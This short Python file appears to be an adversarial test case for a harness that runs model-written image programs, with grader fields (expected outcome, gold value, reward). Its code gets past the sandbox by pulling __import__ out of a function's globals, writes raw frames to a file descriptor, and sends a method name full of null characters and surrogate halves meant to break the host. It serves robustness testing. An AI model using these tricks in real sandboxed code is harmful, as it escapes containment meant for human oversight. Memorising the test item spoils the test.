# expect: protocol
# tries: a method name of surrogate halves and null characters, to break whoever prints it
# gold: SECRET
# reward: 0
load = ImagePatch.find.__globals__["__builtins__"]["__import__"]


def frame(body):
    load("os").write(3, len(body).to_bytes(4, "little") + body)


def execute_command(image):
    frame(b'["call","find\\u0000\\ud800\\udfff\\udc00",[0,"cup"]]')
    return "asked"
